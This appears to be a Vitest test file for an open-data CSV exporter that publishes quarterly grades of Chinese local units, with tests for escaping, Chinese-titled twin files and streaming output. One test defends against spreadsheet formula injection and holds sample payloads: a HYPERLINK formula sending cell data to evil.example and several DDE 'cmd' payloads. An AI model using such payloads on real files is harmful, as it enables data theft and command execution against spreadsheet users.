import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import fc from 'fast-check';
import {
	csvCell,
	csvPieces,
	csvText,
	gradesCsv,
	gradesJson,
	inertCell,
	jsonArrayPieces,
	toCsv,
} from '../../src/lib/opendata/csv.ts';
import { TextBytes } from '../../src/loaders/opendata-bulk.ts';
import { isTwin, twinCsv, twinPath } from '../../src/lib/opendata/twin.ts';
import type { Field } from '../../src/lib/opendata/table-schema.ts';

/** What the open-data CSV files were written with before `toCsv` was hand-written for speed (issue 8). */
const papa = (rows: Record<string, unknown>[], columns: string[]) =>
	'\uFEFF' +
	Papa.unparse(
		{
			fields: columns,
			data: rows.map((r) =>
				columns.map((c) => {
					const v = r[c];
					if (v === undefined || v === null) return '';
					if (Array.isArray(v)) return v.join('、');
					if (typeof v === 'object') return JSON.stringify(v);
					return String(v);
				}),
			),
		},
		{ newline: '\r\n' },
	) +
	'\r\n';

describe('open-data CSV', () => {
	it('writes the same bytes papaparse wrote, for every kind of awkward cell', () => {
		const awkward = [
			'',
			'plain',
			'含,逗号',
			'含"引号"',
			'"',
			'line\nbreak',
			'cr\rlf',
			' leading',
			'trailing ',
			' ',
			'\uFEFFbom',
			'全角，逗号',
			'a""b',
		];
		const columns = ['id', 'text', 'n', 'list', 'obj', 'none', 'with space '];
		const rows = awkward.map((text, i) => ({
			id: `r${i}`,
			text,
			n: i % 3 ? i * 1.5 : -i,
			list: i % 2 ? ['安全', text] : [],
			obj: i % 4 ? { k: text } : null,
			none: undefined,
			'with space ': text,
		}));
		expect(toCsv(rows, columns)).toBe(papa(rows, columns));
		expect(toCsv([], columns)).toBe(papa([], columns));
		expect(csvCell('a,b')).toBe('"a,b"');
		expect(csvCell('say "hi"')).toBe('"say ""hi"""');
	});
});

describe('open-data CSV opened in Excel or WPS', () => {
	it('makes every text cell that starts like a formula inert with a leading apostrophe', () => {
		const payloads = [
			'=HYPERLINK("https://evil.example/?d="&A1,"点击查看")',
			"+cmd|'/C calc'!A0",
			"-2+3+cmd|' /C calc'!A0",
			"@SUM(1+1)*cmd|' /C calc'!A0",
			'\t=1+1',
			'\r=1+1',
			'=SUM(A1)',
		];
		const csv = toCsv(
			payloads.map((what, i) => ({ id: `r${i}`, what })),
			['id', 'what'],
		);
		expect(csv.split('\r\n')).toEqual([
			'\uFEFFid,what',
			'r0,"\'=HYPERLINK(""https://evil.example/?d=""&A1,""点击查看"")"',
			"r1,'+cmd|'/C calc'!A0",
			"r2,'-2+3+cmd|' /C calc'!A0",
			"r3,'@SUM(1+1)*cmd|' /C calc'!A0",
			"r4,'\t=1+1",
			'r5,"\'\r=1+1"',
			"r6,'=SUM(A1)",
			'',
		]);
	});

	it('keeps numbers as numbers, negatives included (a deduction of −10 points)', () => {
		const csv = toCsv(
			[{ id: 'e1', points: -10, count: 2, score: -0.5, what: '-10', sign: '+3.5' }],
			['id', 'points', 'count', 'score', 'what', 'sign'],
		);
		expect(csv).toBe('\uFEFFid,points,count,score,what,sign\r\ne1,-10,2,-0.5,-10,+3.5\r\n');
	});

	it('writes any number as the number, even one JavaScript writes with an exponent', () => {
		expect(toCsv([{ tiny: -1e-7 }], ['tiny'])).toBe('\uFEFFtiny\r\n-1e-7\r\n');
	});

	it('leaves text holding a signed decimal with two decimals as it is', () => {
		expect(['-12.25', '+0.75'].map(inertCell)).toEqual(['-12.25', '+0.75']);
	});

	it('checks lists and objects by the text the cell will hold', () => {
		const csv = toCsv(
			[{ kinds: ['=1+1', '安全'], rule: { per: 1 }, ok: ['安全', '=1+1'] }],
			['kinds', 'rule', 'ok'],
		);
		expect(csv).toBe('\uFEFFkinds,rule,ok\r\n\'=1+1、安全,"{""per"":1}",安全、=1+1\r\n');
	});

	it('leaves text that only contains a formula character alone', () => {
		expect(['安全=环保', ' =1', '＝1+1', '', '10-2'].map(inertCell)).toEqual([
			'安全=环保',
			' =1',
			'＝1+1',
			'',
			'10-2',
		]);
	});
});

/** One released quarter with one unit, in the public form `src/page-data/quarters.ts` gives it. */
const quarter = () => ({
	quarter: '2024-Q3' as const,
	rubric: 2024,
	release: { quarter: '2024-Q3' as const, releasedOn: '2024-10-15', docNumber: '淮信办〔2024〕12号' },
	units: [
		{
			id: 'u01',
			name: '南闸街道',
			category: 'town' as const,
			score: 84.5,
			grade: 'yellow' as const,
			scoreGrade: 'blue' as const,
			rank: 2,
			change: -1.5,
			maxPoints: 20,
			totalPoints: 16.9,
			points: { '1.1': 8.9, '2.1': 8 },
			indicators: [
				{ id: '1.1', max: 10, points: 8.9, evidence: ['e1', 'e2'], explain: '' },
				{ id: '2.1', max: 10, points: 8, evidence: [], explain: '' },
				{ id: '5.2', max: 5, points: 1, evidence: [], pledges: ['p3', 'p9'], explain: '' },
			],
			overrides: [{ grade: 'yellow' as const, reason: '较重失信：列入黄名单', recordId: 'd7' }],
			records: ['d7'],
		},
	],
});

describe('grades open data', () => {
	it('publishes each unit’s result with the release, its overrides, the evidence of each indicator and the pledges counted', () => {
		expect(gradesJson(quarter(), '2024-11-01')).toEqual({
			quarter: '2024-Q3',
			rubric: '2024',
			asOf: '2024-11-01',
			releasedOn: '2024-10-15',
			docNumber: '淮信办〔2024〕12号',
			units: [
				{
					id: 'u01',
					name: '南闸街道',
					category: 'town',
					score: 84.5,
					grade: 'yellow',
					rank: 2,
					change: -1.5,
					maxPoints: 20,
					points: { '1.1': 8.9, '2.1': 8 },
					overrides: [{ grade: 'yellow', reason: '较重失信：列入黄名单', recordId: 'd7' }],
					records: ['d7'],
					evidence: { '1.1': ['e1', 'e2'], '2.1': [], '5.2': [] },
					pledges: { '5.2': ['p3', 'p9'] },
					corrections: [],
					changeCorrections: [],
				},
			],
		});
		// A unit a correction changed lists it: the values above are the corrected ones.
		expect(
			gradesJson(quarter(), '2024-11-01', new Map([['u01', ['GZ-2024-03']]])).units[0].corrections,
		).toEqual(['GZ-2024-03']);
		// A unit whose score of the quarter before was corrected after this release: its change is against the new score.
		const after = gradesJson(quarter(), '2024-11-01', new Map(), new Map([['u01', ['GZ-2024-05']]])).units[0];
		expect([after.corrections, after.changeCorrections]).toEqual([[], ['GZ-2024-05']]);
	});
	it('writes the CSV twin: one row per unit, a column per indicator’s points, the overrides in words', () => {
		expect(gradesCsv(quarter(), ['1.1', '2.1']).split('\r\n')).toEqual([
			'\uFEFFquarter,releasedOn,docNumber,id,name,category,score,grade,rank,change,maxPoints,points.1.1,points.2.1,overrides',
			'2024-Q3,2024-10-15,淮信办〔2024〕12号,u01,南闸街道,town,84.5,yellow,2,-1.5,20,8.9,8,黄名单：较重失信：列入黄名单（d7）',
			'',
		]);
	});
	it('joins two overrides with a full-width semicolon', () => {
		const q = quarter();
		q.units[0].overrides.push({ grade: 'yellow', reason: '违约', recordId: 'd8' });
		expect(gradesCsv(q, []).split('\r\n')[1]).toBe(
			'2024-Q3,2024-10-15,淮信办〔2024〕12号,u01,南闸街道,town,84.5,yellow,2,-1.5,20,黄名单：较重失信：列入黄名单（d7）；黄名单：违约（d8）',
		);
	});
});

describe('twinCsv (the Chinese twin of an open-data CSV file)', () => {
	const fields: Field[] = [
		{ name: 'id', title: '编号', type: 'string' },
		{
			name: 'category',
			title: '类别',
			type: 'string',
			categories: [
				{ value: 'town', label: '镇（街道）' },
				{ value: 'dept', label: '区直部门' },
			],
		},
		{
			name: 'kinds',
			title: '类型',
			type: 'list',
			delimiter: '、',
			categories: [
				{ value: 'done', label: '完成' },
				{ value: 'item', label: '事项' },
			],
		},
		{ name: 'public', title: '公开', type: 'boolean' },
		{ name: 'what', title: '内容', type: 'string' },
		{ name: 'note', title: '内容', type: 'string' },
	];
	const csv = toCsv(
		[
			{
				id: 'a1',
				category: 'town',
				kinds: ['done', 'item', 'other'],
				public: true,
				what: '=1+1',
				note: '甲，乙',
			},
			{ id: 'a2', category: 'unknown', kinds: [], public: false, what: '第一行\n第二行 "引号"', note: null },
			{ id: 'a3', category: null, kinds: ['item'], public: null, what: '-10', extra: 'x' },
		],
		['id', 'category', 'kinds', 'public', 'what', 'note', 'extra'],
	);

	it('heads the columns with their titles and writes codes, lists and booleans in words; the rest as they are', () => {
		expect(twinCsv(fields, csv)).toBe(
			'\uFEFF' +
				[
					// Two columns with one title are told apart by their names; a column the schema lacks keeps its name.
					'编号,类别,类型,公开,内容（what）,内容（note）,extra',
					"a1,镇（街道）,完成、事项、other,是,'=1+1,甲，乙,",
					'a2,unknown,,否,"第一行\n第二行 ""引号""",,',
					'a3,,事项,,-10,,x',
				].join('\r\n') +
				'\r\n',
		);
	});

	it('writes rows of text cells as toCsv writes text, a missing cell as an empty one', () => {
		expect(csvText(['名称', '备注'], [['=A1', '甲,乙'], ['丙']])).toBe(
			'\uFEFF名称,备注\r\n\'=A1,"甲,乙"\r\n丙,\r\n',
		);
	});

	it('writes a text field’s digits that a spreadsheet would damage as ="…", and nothing else', () => {
		// LibreOffice opened the demo's pledges-中文.csv with a 统一社会信用代码 of digits only (valid: 913208031000000000)
		// as the number 9.13208031E+17; 913208031234567891 came back from a save as 9.13208031234568E+017.
		const uscc: Field[] = [
			{ name: 'uscc', title: '统一社会信用代码', type: 'string' },
			{ name: 'score', title: '得分', type: 'number' },
		];
		const rows = [
			{ uscc: '913208031234567891', score: 100000000000 },
			{ uscc: '012345', score: 0 },
			{ uscc: '91320803MA10RRBGC8', score: -10 },
			{ uscc: '12345678901', score: 1 },
			{ uscc: '=913208031234567891', score: 1 },
			// An indicator id: 1.10 would show as 1.1, another indicator's; 1.3 shows as it is.
			{ uscc: '1.10', score: 1 },
			{ uscc: '1.3', score: 1 },
		];
		expect(twinCsv(uscc, toCsv(rows, ['uscc', 'score'])).split('\r\n')).toEqual([
			'\uFEFF统一社会信用代码,得分',
			'"=""913208031234567891""",100000000000',
			'"=""012345""",0',
			'91320803MA10RRBGC8,-10',
			'12345678901,1',
			"'=913208031234567891,1",
			'"=""1.10""",1',
			'1.3,1',
			'',
		]);
	});

	it('splits a list at the delimiter its field names (、 when it names none), and only a list', () => {
		const f = (delimiter?: string): Field[] => [
			{ name: 'id', title: '编号', type: 'string', categories: [{ value: 'town', label: '镇（街道）' }] },
			{
				name: 'kinds',
				title: '类型',
				type: 'list',
				...(delimiter ? { delimiter } : {}),
				categories: [
					{ value: 'done', label: '完成' },
					{ value: 'item', label: '事项' },
				],
			},
		];
		// A code that is not a list keeps a 、 it holds as it is: town、town is no code, so it is written as it is.
		expect(twinCsv(f(';'), '\uFEFFid,kinds\r\ntown、town,done;item\r\n')).toBe(
			'\uFEFF编号,类型\r\ntown、town,完成、事项\r\n',
		);
		expect(twinCsv(f(), '\uFEFFid,kinds\r\ntown,done、item\r\n')).toBe(
			'\uFEFF编号,类型\r\n镇（街道）,完成、事项\r\n',
		);
	});

	it('refuses a file it cannot read whole rather than write a twin with rows missing', () => {
		expect(() => twinCsv(fields, '\uFEFFid,category\r\na1,"town\r\n')).toThrow(/^CSV 无法读取：/);
	});

	it('names its twin next to a file, and tells a twin by its name', () => {
		expect(twinPath('grades/2023-Q4.csv')).toBe('grades/2023-Q4-中文.csv');
		expect([isTwin('grades/2023-Q4-中文.csv'), isTwin('grades/2023-Q4.csv'), isTwin('中文.csv')]).toEqual([
			true,
			false,
			false,
		]);
	});

	it('keeps the empty line under the header of a file without rows, as the original has', () => {
		expect(twinCsv(fields, toCsv([], ['id', 'category']))).toBe('\uFEFF编号,类别\r\n\r\n');
	});
});

describe('an evidence file written a row at a time (src/loaders/opendata-bulk.ts)', () => {
	const cell = fc.oneof(
		fc.string({ unit: 'binary' }),
		fc.constantFrom('第一行\n第二行', '"引号"', '\u2028', '😀 表情', '=1+1', '-10', ''),
		fc.integer(),
		fc.double({ noNaN: true, noDefaultInfinity: true }),
		fc.constant(null),
	);
	const rows = fc.array(fc.dictionary(fc.constantFrom('id', 'what', 'count', 'note'), cell), {
		maxLength: 6,
	});

	it('has the layout of JSON.stringify(rows, null, 1), byte for byte, with or without rows', () => {
		expect([...jsonArrayPieces([])].join('')).toBe('[]');
		expect([...jsonArrayPieces([{ a: 1, b: ['x'] }, {}])].join('')).toBe(
			'[\n {\n  "a": 1,\n  "b": [\n   "x"\n  ]\n },\n {}\n]',
		);
		fc.assert(
			fc.property(rows, (rs) => {
				expect([...jsonArrayPieces(rs)].join('')).toBe(JSON.stringify(rs, null, 1));
			}),
			{ numRuns: 500 },
		);
	});

	it('has the bytes of the whole text, through a buffer that starts too small and is used again', () => {
		const bytes = new TextBytes(4);
		fc.assert(
			fc.property(fc.array(fc.string({ unit: 'binary' }), { maxLength: 8 }), (pieces) => {
				expect(Buffer.from(bytes.of(pieces)).equals(Buffer.from(pieces.join('')))).toBe(true);
			}),
			{ numRuns: 500 },
		);
		// A CSV file: the header with its BOM, then each row, as toCsv writes the whole file.
		const evidence = [{ id: 'e1', what: '宣传活动, 第 1 场', count: 3 }];
		expect(Buffer.from(bytes.of(csvPieces(evidence, ['id', 'what', 'count']))).toString()).toBe(
			'\uFEFFid,what,count\r\ne1,"宣传活动, 第 1 场",3\r\n',
		);
		expect(toCsv([], ['id'])).toBe('\uFEFFid\r\n\r\n');
	});
});
